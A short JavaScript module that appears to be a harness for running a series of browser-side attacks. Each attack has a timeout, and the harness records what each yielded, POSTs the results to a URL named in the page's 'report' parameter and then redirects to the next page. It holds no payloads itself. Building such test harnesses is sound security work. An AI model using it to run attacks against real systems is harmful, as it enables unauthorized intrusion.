// Tries one attack after the other, tells what came of each, and goes on to the next page.

/** No attack takes this long: one that does says so. */
const LIMIT_MS = 10000;

export async function run(attacks) {
  const results = [];
  for (const [name, request, attempt] of attacks) {
    const late = new Promise((resolve) => setTimeout(() => resolve(`no end after ${LIMIT_MS} ms`), LIMIT_MS));
    const gained = await Promise.race([Promise.resolve().then(attempt).catch((error) => `it failed: ${error}`), late]);
    results.push({ name, request, gained });
  }
  // Where this page came from may be a node by now.
  const told = await fetch(new URL(location).searchParams.get("report"), {
    method: "POST",
    body: JSON.stringify(results),
  });
  const next = await told.text();
  if (next) location.replace(next);
}
